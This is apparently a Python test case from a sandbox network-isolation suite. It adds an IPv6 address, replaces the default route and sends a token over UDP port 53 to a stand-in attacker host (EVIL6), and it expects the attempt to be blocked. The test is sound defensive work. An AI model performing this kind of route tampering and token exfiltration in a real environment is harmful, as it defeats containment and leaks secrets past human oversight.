"""
how: IPv6 with an address and a route of its own
expect: shut
unseen: a plain network would carry it, as it has a way there already
"""

from frames import changed, ip
from land import EVIL6
from sockets import udp


def attempt(token):
    return changed(
        ["-6", "address", "add", "fd00::2/64", "dev", "eth0"],
        lambda: (ip("-6", "route", "replace", "default", "dev", "eth0"), udp(EVIL6, 53, token)),
    )
